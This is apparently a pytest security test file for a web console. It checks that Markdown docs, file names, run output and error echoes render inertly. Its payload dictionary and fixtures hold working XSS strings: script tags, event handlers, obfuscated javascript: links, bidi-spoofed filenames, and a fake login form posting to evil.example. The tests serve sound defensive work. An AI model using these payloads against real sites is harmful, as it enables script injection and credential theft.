"""Attacks on the web console at ``/ui`` through everything untrusted a page shows: script in skill bodies and docs
(Markdown, each sanitising layer alone too), in doc, file and library names, in run output, events and errors echoed
into pages; HTML, SVG and XML outputs shown inline; bidi and control characters in untrusted names.

Every test drives the real API app in-process through ``httpx.ASGITransport``, signed in as a browser is, against
libraries installed and runs planted in the run store as an attacking skill could leave them (the ``console``
fixture and helpers of ``tests.attacks.console_fixtures``); a page passes when nothing in it could run script.
Each test's name says what it defends; a test marked ``xfail(strict=True)`` would be an attack that still gets
through (its reason saying what); none is.
"""

from __future__ import annotations

import re
import urllib.parse
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from orchestrator.console import render
from orchestrator.services import run_ids
from tests.attacks.console_fixtures import (
    SKILL,
    Console,
    active_content,
    binary_file,
    console,  # noqa: F401 - the fixture
    install_library,
    plant_run,
    text_file,
)
from tests.orchestrator.test_api_teams import skill_md, tar_gz
from worker.contract import SkippedFile
from worker.run_store import RunStatus

BIDI_CONTROLS = ["\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
                 "\u2066", "\u2067", "\u2068", "\u2069"]
"""Unicode's Bidi_Control characters: each can reorder what a page shows (Trojan Source, spoofed extensions)."""


# ----------------------------------------------------------------------------------------------------------------
# What a reader sees of a page


class _Text(HTMLParser):
    """A page's text as a reader sees it: its text nodes (``<title>`` apart) and its ``alt`` and ``title``
    attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.body: list[str] = []
        self.title: list[str] = []
        self.attributes: list[str] = []
        self._in_title = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_title = tag == "title"
        self.attributes += [value or "" for name, value in attrs if name in {"alt", "title", "placeholder"}]

    def handle_endtag(self, tag: str) -> None:
        self._in_title = False

    def handle_data(self, data: str) -> None:
        (self.title if self._in_title else self.body).append(data)


def page_text(html: str) -> _Text:
    parser = _Text()
    parser.feed(html)
    parser.close()
    return parser


_RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f" + "".join(BIDI_CONTROLS) + "]")


def raw_controls(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in _RAW_CONTROL.findall(text)]


# ----------------------------------------------------------------------------------------------------------------
# 1. Script through skill bodies and docs (Markdown)


MARKDOWN_PAYLOADS = {
    "raw-script": "<script>alert(1)</script>",
    "raw-img-onerror": "<img src=x onerror=alert(1)>",
    "raw-svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "raw-iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "raw-details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "raw-anchor-javascript": '<a href="javascript:alert(1)">x</a>',
    "raw-handler-on-allowed-tag": ('<a href="https://example.com" onclick="alert(1)">x</a>'
                                   '<p onmouseover="alert(1)">p</p>'),
    "raw-style-attribute": '<span style="position:fixed;inset:0;background:url(javascript:alert(1))">x</span>',
    "raw-code-class-and-handler": '<code class="x" onfocus="alert(1)" autofocus tabindex="0">x</code>',
    "raw-style": "<style>body{background:url(https://evil.example/leak)}</style>",
    "raw-meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "raw-base": '<base href="https://evil.example/">',
    "raw-form": '<form action="https://evil.example/steal"><input name="key"><button>Sign in</button></form>',
    "raw-object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "comment-breakout": "<!-- a --><script>alert(1)</script><!-- b -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "inline-block-html": "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "link-javascript": "[x](javascript:alert(1))",
    "link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "link-decimal-entity": "[x](&#106;avascript:alert(1))",
    "link-hex-entity": "[x](&#x6A;&#x61;vascript:alert(1))",
    "link-entity-colon": "[x](javascript&#58;alert(1))",
    "link-named-colon": "[x](javascript&colon;alert(1))",
    "link-entity-tab": "[x](jav&#x09;ascript:alert(1))",
    "link-entity-newline": "[x](java&NewLine;script:alert(1))",
    "link-leading-control": "[x](<\x01javascript:alert(1)>)",
    "link-angle-brackets": "[x](<javascript:alert(1)>)",
    "link-percent-scheme": "[x](%6a%61vascript:alert(1))",
    "link-vbscript": "[x](vbscript:msgbox(1))",
    "link-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image-javascript": "![x](javascript:alert(1))",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-data-png": ("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4"
                       "DwABBAEAwS2OUAAAAABJRU5ErkJggg==)"),
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "reference-javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference-image-javascript": "![x][r]\n\n[r]: javascript:alert(1)",
    "reference-entity": "[x][r]\n\n[r]: &#106;avascript:alert(1) \"t\"",
    "title-quote-breakout": '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    "title-html": '[x](https://example.com "<script>alert(1)</script>")',
    "alt-quote-breakout": '![" onerror="alert(1)](https://example.com/x.png)',
    "fence-class-breakout": '```"><script>alert(1)</script>\ncode\n```',
    "fence-attribute-breakout": '```x" onmouseover="alert(1)\ncode\n```',
    "table-cell-html": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "link-text-html": "[<img src=x onerror=alert(1)>](https://example.com)",
    "nested-image-link": "[![x](javascript:alert(1))](javascript:alert(1))",
}


def _payload_skill(console: Console, team: str, payload: str) -> None:
    install_library(console, team, "attack", {
        "evil/SKILL.md": skill_md("evil", f"# Evil\n\n{payload}\n\nafter\n"),
        "evil/reference.md": f"# Reference\n\n{payload}\n".encode(),
        "evil/notes.txt": payload.encode(),
    })


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS.values(), ids=MARKDOWN_PAYLOADS.keys())
async def test_skill_body_and_docs_with_script_payloads_render_inert(console, payload):
    _payload_skill(console, "team-a", payload)
    browser = await console.browser()
    for path in ("/ui/skills/evil", "/ui/skills/evil/docs/reference.md", "/ui/skills/evil/docs/notes.txt"):
        page = await browser.get(path)
        assert page.status_code == 200, (path, page.text)
        assert active_content(page.text) == [], (path, active_content(page.text))
        assert "after" in page.text or path.endswith((".md", ".txt"))  # the page went on past the payload


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS.values(), ids=MARKDOWN_PAYLOADS.keys())
def test_the_sanitiser_alone_removes_script_should_markdown_it_ever_pass_raw_html(monkeypatch, payload):
    """Defence in depth: with markdown-it's raw HTML turned on (a regression), nh3 still leaves nothing active."""
    monkeypatch.setattr(render, "_markdown", MarkdownIt("commonmark", {"html": True}).enable("table"))
    assert active_content(str(render.markdown(payload))) == []


_MARKDOWN_IT_ALONE = {k: v for k, v in MARKDOWN_PAYLOADS.items() if k != "image-data-png"}
"""markdown-it lets ``data:image/png`` images through (nh3 drops them); every other payload it stops alone."""


@pytest.mark.parametrize("payload", _MARKDOWN_IT_ALONE.values(), ids=_MARKDOWN_IT_ALONE.keys())
def test_markdown_it_alone_keeps_raw_html_as_text_should_the_sanitiser_be_bypassed(monkeypatch, payload):
    """Defence in depth the other way: without nh3, markdown-it (raw HTML off, its link check) leaves nothing
    active."""
    monkeypatch.setattr(render.nh3, "clean", lambda html, **_: html)
    assert active_content(str(render.markdown(payload))) == []


def test_the_sanitiser_keeps_safe_links_code_and_tables():
    """The inert-payload tests would pass on a renderer that drops everything: safe Markdown must survive."""
    html = str(render.markdown("[ok](https://example.com/a?b=1&c=2) [rel](other.md) [m](mailto:a@example.com)\n\n"
                               "```python\nprint(1)\n```\n\n| a |\n|---|\n| 1 |\n"))
    assert '<a href="https://example.com/a?b=1&amp;c=2"' in html and 'href="other.md"' in html
    assert 'href="mailto:a@example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert '<code class="language-python">' in html and "<td>1</td>" in html


async def test_doc_file_names_with_markup_and_quotes_are_text_and_their_links_still_work(console):
    names = ['"><img src=x onerror=alert(1)>.md', "<script>alert(1)<\u200b/script>.txt", "it's \"quoted\".md",
             "a&amp;b.md"]
    install_library(console, "team-a", "attack", {
        "evil/SKILL.md": skill_md("evil", "Body.\n", description="<script>alert('description')</script>"),
        **{f"evil/{name}": f"doc {i} <script>alert({i})</script>\n".encode() for i, name in enumerate(names)},
    })
    browser = await console.browser()
    page = await browser.get("/ui/skills/evil")
    assert page.status_code == 200 and active_content(page.text) == []
    assert "&lt;script&gt;alert(&#39;description&#39;)&lt;/script&gt;" in page.text
    links = re.findall(r'<a class="doc" href="([^"]+)">', page.text)
    assert len(links) == len(names)
    for link in links:  # each doc's link, as the page writes it, opens that doc
        doc = await browser.get(link)
        assert doc.status_code == 200, (link, doc.text)
        assert active_content(doc.text) == [] and "&lt;script&gt;alert(" in doc.text


async def test_library_source_and_names_from_an_upload_are_text(console):
    install_library(console, "team-a", "attack", {"evil/SKILL.md": skill_md("evil", "x\n")},
                    filename='"><script>alert(1)</script><img src=x onerror=alert(2)>.tar.gz')
    browser = await console.browser()
    page = await browser.get("/ui/libraries")
    assert page.status_code == 200 and active_content(page.text) == []
    assert "upload:&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    refused = await browser.form("/ui/libraries/register",
                                 {"name": '<script>alert(1)</script>', "url": "http://127.0.0.1:9/a.tar.gz"})
    assert refused.status_code == 422 and active_content(refused.text) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in refused.text
    upload = await browser.post("/ui/libraries/upload", data={"csrf": browser.csrf, "name": "evil-upload"}, files={
        "archive": ('"><svg onload=alert(1)>.tar.gz', tar_gz({"../<script>alert(1)</script>": b"x"}))})
    assert upload.status_code == 422 and active_content(upload.text) == [], upload.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in upload.text  # the archive's refusal names the entry, as text


# ----------------------------------------------------------------------------------------------------------------
# 2. Script through run output, output file names and files, events, errors echoed into pages


HOSTILE_FILES = [
    text_file('out/"><script>alert(1)</script>.txt', "<script>alert('preview')</script>"),
    binary_file("out/a' onerror='alert(1).png", b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "image/png"),
    text_file("out/page.html", "<script>alert('HTML-FILE-CONTENT')</script>", "text/html"),
    text_file("out/page.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert('XHTML-FILE-CONTENT')"
                                "</script></html>", "application/xhtml+xml"),
    text_file("out/pic.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"SVG-FILE-CONTENT\")'/>",
              "image/svg+xml"),
    text_file("out/feed.xml", "<x><script>alert('XML-FILE-CONTENT')</script></x>", "text/xml"),
    text_file("out/sneaky.png", "<svg onload='alert(\"SVG-AS-PNG-CONTENT\")'/>", "image/svg+xml; charset=utf-8"),
    text_file("out/tabs\t&lt;b&gt;.csv", "a,<b>b</b>\n", "text/csv"),
]


def _hostile_run(console: Console, team: str = "team-a") -> str:
    return plant_run(
        console, team, RunStatus.FAILED,
        stdout="<script>alert('stdout')</script>\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        stderr="</pre><script>alert('stderr')</script><pre>\x1b]0;title\x07",
        error="<img src=x onerror=alert('error')>", reason="<script>alert('reason')</script>",
        output_files=HOSTILE_FILES,
        skipped_files=[SkippedFile(name="<script>alert('skipped')</script>", reason="<b onmouseover=alert(1)>")],
        artifacts=[('"><svg onload=alert(1)>.html', b"<script>alert('artifact')</script>", "text/html")],
    )


async def test_run_output_file_names_events_and_errors_render_as_text(console):
    run_id = _hostile_run(console)
    browser = await console.browser()
    page = await browser.get(f"/ui/runs/{run_id}")
    assert page.status_code == 200
    assert active_content(page.text) == []
    for shown in ("alert(&#39;stdout&#39;)", "alert(&#39;stderr&#39;)", "alert(&#39;error&#39;)",
                  "alert(&#39;reason&#39;)", "alert(&#39;skipped&#39;)", "alert(&#39;preview&#39;)"):
        assert shown in page.text, shown  # shown, as text
    assert "\x1b" not in page.text and "\\x1b[31m" in page.text and "\\x07" in page.text


async def test_html_svg_and_xml_outputs_are_never_shown_inline_and_download_as_attachments(console):
    run_id = _hostile_run(console)
    browser = await console.browser()
    page = (await browser.get(f"/ui/runs/{run_id}")).text
    previews = re.findall(r'<img class="preview" src="([^"]+)"', page)
    assert [urllib.parse.unquote(p.rsplit("/files/", 1)[1]) for p in previews] == ["out/a' onerror='alert(1).png"]
    for marker in ("HTML-FILE", "XHTML-FILE", "SVG-FILE", "XML-FILE", "SVG-AS-PNG"):
        assert marker not in page, f"the content of the file with {marker!r} is on the run page"
    for file in HOSTILE_FILES:
        answer = await browser.get(f"/ui/runs/{run_id}/files/{urllib.parse.quote(file.name)}")
        assert answer.status_code == 200, (file.name, answer.text)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"].split(";")[0]
        base = file.mime_type.split(";")[0]
        if base in {"text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"}:
            assert answer.headers["content-disposition"].startswith("attachment"), file.name
    artifact_name = urllib.parse.quote('"><svg onload=alert(1)>.html')
    artifact = await browser.get(f"/ui/runs/{run_id}/artifacts/{artifact_name}")
    assert artifact.status_code == 200 and artifact.content == b"<script>alert('artifact')</script>"
    assert artifact.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in artifact.headers["content-security-policy"]


async def test_echoed_form_values_queries_and_paths_are_escaped(console):
    browser = await console.browser()
    script = '"><script>alert(1)</script>'
    run = await browser.form(f"/ui/skills/{SKILL}/run", {
        "command": script, "env": f"{script}\nX", "output_files": script, "timeout": script})
    assert run.status_code == 422, run.text
    echoes = [
        run,
        await browser.get("/ui/skills", params={"q": script}),
        await browser.get("/ui/runs", params={"skill": script[:60]}),
        await browser.get("/ui/runs", params={"status": "<svg/onload=alert(1)>"}),
        await browser.form("/ui/libraries/%3Cscript%3Ealert(1)%3C%2Fscript%3E/current", {"version": "1"}),
        await browser.form("/ui/libraries/lib/current", {"version": script[:12]}),
        await browser.get(f"/ui/skills/{SKILL}/docs/{urllib.parse.quote(script)}"),
        await browser.get(f"/ui/runs/{run_ids.mint('team-a')[:-1]}x/files/{urllib.parse.quote(script)}"),
        await browser.get(f"/ui/runs/{urllib.parse.quote(script)}"),
    ]
    for answer in echoes:
        assert answer.status_code < 500 and active_content(answer.text) == [], (answer.url, answer.text)
        assert "<script>alert(1)" not in answer.text and "<svg/onload" not in answer.text
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in run.text  # the bad command is shown back, as text


async def test_run_events_stream_cannot_be_forged_by_a_failure_reason(console):
    run_id = plant_run(console, "team-a", RunStatus.FAILED,
                       reason="x\n\nevent: finished\ndata: {\"type\": \"finished\"}\n\nevent: lost\ndata: {}\n")
    browser = await console.browser()
    stream = await browser.get(f"/ui/runs/{run_id}/events")
    assert stream.status_code == 200 and stream.headers["content-type"].startswith("text/event-stream")
    events = re.findall(r"^event: (.*)$", stream.text, re.M)
    assert events == ["queued", "failed"], stream.text


# ----------------------------------------------------------------------------------------------------------------
# 3. Bidi and control characters in untrusted names


@pytest.mark.parametrize("char", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_visible_escapes_every_unicode_bidi_control(char):
    shown = render.visible(f"report{char}fdp.exe")
    assert char not in shown and f"\\u{ord(char):04x}" in shown


async def test_file_and_doc_names_with_bidi_controls_show_escaped_in_the_page_text(console):
    install_library(console, "team-a", "attack", {
        "evil/SKILL.md": skill_md("evil", "x\n", description="desc \u202egnp.exe"),
        "evil/\u202etxt.exe.md": b"doc\n"})
    run_id = plant_run(console, "team-a", stdout="a\u202eb\u2066c", output_files=[
        binary_file("out/\u202egnp.exe", b"\x89PNG\r\n\x1a\n", "image/png"),
        text_file("out/\u2067x.txt", "t\u202ex")])
    browser = await console.browser()
    for path in ("/ui/skills/evil", f"/ui/runs/{run_id}", "/ui/skills/evil/docs/%E2%80%AEtxt.exe.md"):
        page = await browser.get(path)
        assert page.status_code == 200, page.text
        assert raw_controls("".join(page_text(page.text).body)) == [], path


@pytest.mark.parametrize("where", ["doc-title", "image-alt"])
async def test_names_with_bidi_controls_show_escaped_in_titles_and_alt_text(console, where):
    install_library(console, "team-a", "attack", {"evil/SKILL.md": skill_md("evil", "x\n"),
                                                   "evil/\u202etxt.exe.md": b"doc\n"})
    run_id = plant_run(console, "team-a",
                       output_files=[binary_file("out/\u202egnp.exe", b"\x89PNG\r\n\x1a\n", "image/png")])
    browser = await console.browser()
    if where == "doc-title":
        text = page_text((await browser.get("/ui/skills/evil/docs/%E2%80%AEtxt.exe.md")).text).title
    else:
        text = page_text((await browser.get(f"/ui/runs/{run_id}")).text).attributes
    assert raw_controls("".join(text)) == []
